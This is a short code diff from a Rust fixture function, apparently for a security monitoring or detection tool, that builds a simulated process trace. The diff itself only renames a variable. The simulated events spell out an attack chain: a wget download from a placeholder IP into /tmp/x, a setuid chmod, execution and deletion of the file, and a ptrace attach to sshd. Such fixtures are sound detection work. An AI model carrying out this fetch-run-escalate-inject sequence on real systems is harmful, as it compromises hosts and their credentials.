@@ -55,10 +55,10 @@ pub(crate) fn capture() -> Vec<u8> {
     }
 
     // Something is written, made executable with the rights of its owner, run, and removed.
-    let dropper = trace.spawn(shell, "/usr/bin/wget", &["wget", "-O", "/tmp/x", "http://203.0.113.9/x"]);
-    let fd = trace.create(dropper, "/tmp/x");
-    trace.write(dropper, fd, b"\x7fELF").close(dropper, fd);
-    trace.chmod(dropper, "/tmp/x", flags::S_ISUID | 0o755).exit(dropper, 0);
+    let wget = trace.spawn(shell, "/usr/bin/wget", &["wget", "-O", "/tmp/x", "http://203.0.113.9/x"]);
+    let fd = trace.create(wget, "/tmp/x");
+    trace.write(wget, fd, b"\x7fELF").close(wget, fd);
+    trace.chmod(wget, "/tmp/x", flags::S_ISUID | 0o755).exit(wget, 0);
     let dropped = trace.spawn(shell, "/tmp/x", &["/tmp/x"]);
     trace.unlink(dropped, "/tmp/x");
     trace.ptrace(dropped, "PTRACE_ATTACH", sshd, 0);
